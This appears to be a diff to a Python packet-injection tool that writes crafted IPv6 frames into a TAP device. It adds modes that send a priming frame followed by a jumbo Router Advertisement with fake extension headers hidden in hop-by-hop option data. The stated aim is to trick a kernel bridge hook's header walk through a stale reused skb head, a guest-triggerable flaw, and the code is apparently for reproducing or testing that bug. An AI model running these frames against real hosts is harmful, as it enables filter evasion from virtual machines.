@@ -10,6 +10,13 @@ Opens TAP (IFF_TAP | IFF_NO_PI | IFF_VNET_HDR, created if missing), prints
   udp    a 5000-byte UDP datagram, 40000 -> 9
   hbh_ra the RA behind a hop-by-hop options header
   hbh_udp the UDP datagram behind a hop-by-hop options header
+  hbh_mld a small MLDv2 report behind the 8-byte Router Alert hop-by-hop header
+  mislabel_frag, mislabel_ah  the RA behind hop-by-hop and destination options
+         whose hop-by-hop option data holds fake headers, each frame right
+         after a small frame whose first next header is 44 (fragment) or 51
+         (AH): written with a small HDR_LEN, the jumbo's skb head reuses that
+         frame's, the bridge hook's walk reads its stale first next header and
+         takes the fake headers for the chain (a guest can do this)
 each behind a virtio-net header whose hdr_len is HDR_LEN. Frames larger than
 a page with a small hdr_len leave the IPv6 header in the skb's page
 fragments (tun_get_user), as a guest can. Prints "sent N" per line.
@@ -71,6 +78,43 @@ def frame(kind, src_mac, src, dst):
     return dst_mac + src_mac + b"\x86\xdd" + ip6 + body
 
 
+def mislabel(kind, src_mac, src, dst):
+    """The jumbo RA of mislabel_frag/mislabel_ah and its priming frame.
+
+    Real chain: hop-by-hop (next: destination options) | destination options
+    (PadN) | RA. An unknown skippable option (type 0x1e) fills the hop-by-hop
+    header; its data holds, where a walk that took the first header for a
+    fragment (8 bytes) or AH ((4 + 2) * 4 bytes) header lands, a fake
+    destination options header (next: hop-by-hop) and a fake hop-by-hop
+    header (next: TCP), so that walk finds hop-by-hop options and ends in
+    "TCP" before the real RA.
+    """
+    ra = frame("ra", src_mac, src, dst)[14 + 40:]
+    if kind == "mislabel_frag":  # hop-by-hop of 24 bytes; frag_off (42..43) 0
+        first, fake_dst, fake_hbh = 44, 48, 56
+        hbh = bytearray([60, 2, 0, 0, 0x1E, 18]) + bytearray(18)
+    else:  # hop-by-hop of 40 bytes
+        first, fake_dst, fake_hbh = 51, 64, 72
+        hbh = bytearray([60, 4, 0x1E, 36]) + bytearray(36)
+    hbh[fake_dst - 40:fake_dst - 38] = bytes([0, 0])  # next: hop-by-hop, 8 bytes
+    hbh[fake_hbh - 40:fake_hbh - 38] = bytes([6, 0])  # next: TCP, 8 bytes
+    body = bytes(hbh) + bytes([58, 0, 1, 4, 0, 0, 0, 0]) + ra
+    ip6 = struct.pack("!IHBB", 0x60000000, len(body), 0, 255) + src + dst
+    eth = bytes.fromhex("333300000001") + src_mac + b"\x86\xdd"
+    prime = struct.pack("!BBHI", 17, 0, 8, 1) + b"\0" * 16  # a fragment / AH-sized header
+    prime_ip6 = struct.pack("!IHBB", 0x60000000, len(prime), first, 64) + src + dst
+    return eth + ip6 + body, eth + prime_ip6 + prime
+
+
+def mld(src_mac, src, dst):
+    report = struct.pack("!BBHHH", 143, 0, 0, 0, 0)  # MLDv2 report, no records
+    hbh = bytes([58, 0, 5, 2, 0, 0, 1, 0])  # Router Alert, PadN
+    pseudo = src + dst + struct.pack("!IxxxB", len(report), 58)
+    report = report[:2] + struct.pack("!H", checksum(pseudo + report)) + report[4:]
+    ip6 = struct.pack("!IHBB", 0x60000000, len(hbh + report), 0, 1) + src + dst
+    return bytes.fromhex("333300000001") + src_mac + b"\x86\xdd" + ip6 + hbh + report
+
+
 def main():
     fd = os.open("/dev/net/tun", os.O_RDWR)
     ifr = struct.pack("16sH", sys.argv[1].encode(), IFF_TAP | IFF_NO_PI | IFF_VNET_HDR)
@@ -78,10 +122,19 @@ def main():
     print("ready", flush=True)
     for line in sys.stdin:
         kind, mac, src, dst, hdr_len, count = line.split()
-        f = frame(kind, bytes.fromhex(mac.replace(":", "")),
-                  socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst))
+        mac, src = bytes.fromhex(mac.replace(":", "")), socket.inet_pton(socket.AF_INET6, src)
+        dst = socket.inet_pton(socket.AF_INET6, dst)
         vnet = struct.pack("<BBHHHH", 0, 0, int(hdr_len), 0, 0, 0)
+        prime = None
+        if kind.startswith("mislabel_"):
+            f, prime = mislabel(kind, mac, src, dst)
+        elif kind == "hbh_mld":
+            f = mld(mac, src, dst)
+        else:
+            f = frame(kind, mac, src, dst)
         for _ in range(int(count)):
+            if prime is not None:  # linear (hdr_len 0), so its head is written
+                os.write(fd, struct.pack("<BBHHHH", 0, 0, 0, 0, 0, 0) + prime)
             os.write(fd, vnet + f)
         print("sent", count, flush=True)
 
